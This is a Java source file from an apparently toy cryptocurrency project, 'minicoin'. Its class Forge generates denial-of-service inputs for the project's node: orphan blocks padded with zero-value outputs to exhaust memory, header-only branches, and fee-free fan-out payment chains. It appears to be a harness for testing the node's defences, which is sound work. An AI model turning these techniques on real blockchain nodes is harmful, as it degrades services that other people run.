package minicoin.attack;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import minicoin.core.Block;
import minicoin.core.BlockHeader;
import minicoin.core.Coinbase;
import minicoin.core.ConsensusParams;
import minicoin.core.Hash;
import minicoin.core.HeaderHasher;
import minicoin.core.Merkle;
import minicoin.core.OutPoint;
import minicoin.core.PaymentBuilder;
import minicoin.core.Transaction;
import minicoin.core.TxOut;
import minicoin.crypto.Address;
import minicoin.crypto.PrivateKey;

/**
 * What an attacker builds, with real proof of work where the node checks it: blocks whose parent
 * nobody knows, stuffed with zero-value outputs; branches of headers from genesis; chains of
 * fee-free fan-out payments from one coin.
 */
public final class Forge {

    /** One P2PKH output on the wire: 8-byte value, 20-byte key hash (and no count overhead in bulk). */
    static final int OUTPUT_BYTES = TxOut.BYTES;
    /** Just under the networks' 100,000-byte transaction cap. */
    static final int STUFFED_TX_BYTES = 95_000;

    private final ConsensusParams params;
    private final Random random;
    private final PrivateKey junkKey;
    private final Address junk;

    public Forge(ConsensusParams params, long seed) {
        this.params = params;
        this.random = new Random(seed);
        byte[] key = new byte[32];
        random.nextBytes(key);
        key[0] = 1;
        this.junkKey = PrivateKey.fromBytes(key);
        this.junk = junkKey.publicKey().address();
    }

    /**
     * A block of about {@code bytes} on a parent nobody has, with valid proof of work: a coinbase,
     * then payments of at most {@value #STUFFED_TX_BYTES} bytes (under the per-transaction cap) from
     * coins nobody has, each fanning out zero-value outputs. Cheap to send, and a node that keeps it
     * holds several times its size in heap.
     */
    public Block orphanBlock(int bytes, long time) {
        List<Transaction> transactions = new ArrayList<>();
        transactions.add(Coinbase.create(1 + random.nextInt(1_000_000), params.subsidy(), junk));
        int outputsPerTx = STUFFED_TX_BYTES / OUTPUT_BYTES;
        for (int left = bytes; left > 0; left -= STUFFED_TX_BYTES) {
            OutPoint nobodys = new OutPoint(randomHash(), 0);
            PaymentBuilder payment = new PaymentBuilder().spend(nobodys, new TxOut(1, junk), junkKey);
            for (int i = 0; i < Math.min(outputsPerTx, Math.max(1, left / OUTPUT_BYTES)); i++) {
                payment.pay(junk, 0);
            }
            transactions.add(payment.build());
        }
        BlockHeader header = new BlockHeader(BlockHeader.CURRENT_VERSION, randomHash(), Merkle.rootOf(transactions), time,
                params.initialBits(), 0);
        return new Block(HeaderHasher.solve(header), transactions);
    }

    /**
     * {@code count} headers chained on {@code parent} (whose time is {@code parentTime}), each solved
     * at the network's initial difficulty, a second apart so each is after the median of those
     * before it (2,000 of them stay well inside the two hours a header may run ahead): a branch of
     * headers with no blocks behind it.
     */
    public List<BlockHeader> headerBranch(Hash parent, long parentTime, int count) {
        List<BlockHeader> headers = new ArrayList<>(count);
        Hash previous = parent;
        for (int i = 0; i < count; i++) {
            BlockHeader header = HeaderHasher.solve(new BlockHeader(BlockHeader.CURRENT_VERSION, previous, randomHash(),
                    parentTime + 1 + i, params.initialBits(), 0));
            headers.add(header);
            previous = header.hash();
        }
        return headers;
    }

    /**
     * A chain of {@code count} payments from one coin, each spending the previous one's first
     * output back to {@code key} and fanning out {@code fanOut} zero-value outputs, with no fee.
     */
    public List<Transaction> feeFreeFanOutChain(OutPoint coin, TxOut spent, PrivateKey key, int count, int fanOut) {
        List<Transaction> chain = new ArrayList<>(count);
        OutPoint next = coin;
        TxOut nextOut = spent;
        for (int i = 0; i < count; i++) {
            PaymentBuilder payment = new PaymentBuilder().spend(next, nextOut, key).pay(key.publicKey().address(),
                    nextOut.value());
            for (int j = 0; j < fanOut; j++) {
                payment.pay(junk, 0);
            }
            Transaction tx = payment.build();
            chain.add(tx);
            next = new OutPoint(tx.txid(), 0);
            nextOut = tx.outputs().get(0);
        }
        return chain;
    }

    private Hash randomHash() {
        byte[] bytes = new byte[Hash.BYTES];
        random.nextBytes(bytes);
        return Hash.of(bytes);
    }
}
